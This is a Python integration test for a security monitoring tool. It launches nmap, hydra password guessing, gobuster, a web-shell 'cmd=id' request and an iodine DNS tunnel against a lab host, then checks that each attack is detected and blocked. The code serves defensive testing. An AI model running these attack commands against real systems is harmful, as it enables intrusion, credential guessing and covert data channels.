"""Live fire, end to end: real attack tools against a test host in network namespaces whose
logs stream into `vigil serve` (firewall packet log and web access log tailed, sshd's log to
the syslog listener, the resolver's query log tailed), run by `vigil exercise run
--live-fire` from outside. Each attack is detected within 5 s of its evidence, put in an
incident and contained by the block-network-attacker playbook: its address can no longer
reach the host, while a bystander still can.

- a port scan: nmap's SYN scan, seen by the host firewall's log;
- SSH password guessing: hydra against the real sshd;
- web content discovery: gobuster's wordlist against nginx;
- a web shell request: curl asking the uploaded shell for `id`;
- DNS tunnelling: iodine through the resolver (dnsmasq) to its outside server (iodined)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import orjson
import yaml
from served import Served, free_port

from livelab import TUNNEL_DOMAIN, TUNNEL_PASSWORD, LiveLab

ATTACKS = ("scan", "ssh", "web-enum", "web-shell", "dns-tunnel")
WORDS = ["admin", "backup", "old", "test", "dev", "private", "secret", "config", "db", "api"]


def scenarios(lab: LiveLab, folder: Path) -> Path:
    def on(name: str, *command: str) -> list[str]:
        return [*lab.inside(lab.attacker(name)[0]), *command]

    users, passwords, words = folder / "users.txt", folder / "passwords.txt", folder / "words.txt"
    users.write_text("root\nadmin\noracle\n")
    passwords.write_text("123456\npassword\nletmein\nqwerty\nchangeme\n")
    words.write_text("".join(f"{w}{n}\n" for w in WORDS for n in ("", 1, 2, "_old")) + "uploads\n")
    target = {name: lab.attacker(name)[2] for name in ATTACKS}
    expect = {"within_s": 20, "incident": True, "contained": True}
    plan = [
        ("scan", "nmap SYN scan", ["T1046"],
         [on("scan", "nmap", "-sS", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "1-300",
             target["scan"])]),
        ("ssh", "hydra SSH password guessing", ["T1110"],
         [on("ssh", "hydra", "-L", str(users), "-P", str(passwords), "-t", "4", "-I",
             f"ssh://{target['ssh']}")]),
        ("web-enum", "gobuster content discovery", ["T1595.003"],
         [on("web-enum", "gobuster", "dir", "-q", "-t", "10", "-u", f"http://{target['web-enum']}/",
             "-w", str(words))]),
        ("web-shell", "a web shell asked for id", ["T1505.003"],
         [on("web-shell", "curl", "-s", "-o", "/dev/null",
             f"http://{target['web-shell']}/uploads/shell.php?cmd=id")]),
        ("dns-tunnel", "iodine DNS tunnel through the resolver", ["T1071.004"],
         [["timeout", "20", *on("dns-tunnel", "iodine", "-f", "-r", "-P", TUNNEL_PASSWORD,
                                 target["dns-tunnel"], TUNNEL_DOMAIN)]]),
    ]  # fmt: skip
    doc = {
        "scenarios": [
            {
                "id": f"live:{ident}",
                "name": name,
                # a tool whose target is blocked may wait on: stopped past this
                "steps": [{"fire": command, "timeout_s": 25} for command in commands],
                "expect": {"techniques": techniques, **expect},
            }
            for ident, name, techniques, commands in plan
        ]
    }
    path = folder / "live-fire.yml"
    path.write_text(yaml.safe_dump(doc))
    return path


def test_live_attacks_are_detected_within_5_s_and_contained(tmp_path) -> None:
    lab = LiveLab(tmp_path / "lab", list(ATTACKS))
    (tmp_path / "lab").mkdir()
    syslog = free_port()
    try:
        lab.build()
        served = Served(
            tmp_path,
            env={
                "VIGIL_STARTER_RULES": "true",
                "VIGIL_LISTENERS__SYSLOG_TCP": str(syslog),
                "VIGIL_LISTENERS__TAIL": orjson.dumps([str(p) for p in lab.logs.values()]).decode(),
                "VIGIL_RESPOND__DRY_RUN": "false",
                "VIGIL_RESPOND__FIREWALL__HERE": orjson.dumps(lab.inside(lab.target)).decode(),
                # the lab's addresses are private: only loopback stays unblockable here
                "VIGIL_RESPOND__GUARDRAILS__NEVER_BLOCK": '["127.0.0.0/8"]',
            },
        )
        served.start()
        try:
            lab.start(syslog)
            assert all(lab.connects(name, 80) for name in (*ATTACKS, "bystander"))
            plan = scenarios(lab, tmp_path)
            out = tmp_path / "exercise"
            ran = subprocess.run(
                [sys.executable, "-m", "vigil.cli", "exercise", "run", str(plan), "--live-fire",
                 "--vigil", served.url, "--token", served.tokens["admin"], "--out", str(out),
                 "--fail-under", "1.0"],
                capture_output=True, text=True, timeout=600,
            )  # fmt: skip
            result = json.loads((out / "results.json").read_text())
            outcomes = {o["id"].removeprefix("live:"): o for o in result["scenarios"]}
            assert ran.returncode == 0, (ran.stdout[-3000:], ran.stderr[-3000:], outcomes)
            for name in ATTACKS:
                outcome = outcomes[name]
                assert outcome["passed"] and outcome["problem"] is None, outcome
                assert outcome["time_to_detect_s"] < 5, outcome
                assert outcome["incident"] and outcome["contained"], outcome
                # each tool ran to its end (iodine to its `timeout`: 124), or was stopped
                # when, blocked, it would wait on
                assert all(f["exit"] in (0, 124) or f["stopped"] for f in outcome["fired"])
            assert result["coverage"] == 1.0 and result["mttd_s"] < 5
            # contained for real: each attacker's address is blocked, the bystander's is not
            for name in ATTACKS:
                assert not lab.connects(name, 80), f"{name}'s address still reaches the host"
            assert lab.connects("bystander", 80) and lab.connects("bystander", 22)
            runs = served.get("/api/v1/runs?playbook=block-network-attacker").json()
            blocked = set()
            for run in runs:
                detail = served.get(f"/api/v1/runs/{run['id']}").json()
                block = next(s for s in detail["steps"] if s["step"] == "block")
                if block["state"] == "done":
                    blocked.add(block["inputs"]["address"])
            assert blocked == {lab.attacker(name)[1] for name in ATTACKS}, runs
            audit = subprocess.run(
                [sys.executable, "-m", "vigil.cli", "audit", "verify", "--data-dir",
                 str(served.data)],
                capture_output=True, text=True, timeout=120,
            )  # fmt: skip
            assert audit.returncode == 0, audit.stdout + audit.stderr
        finally:
            served.stop()
    finally:
        lab.close()
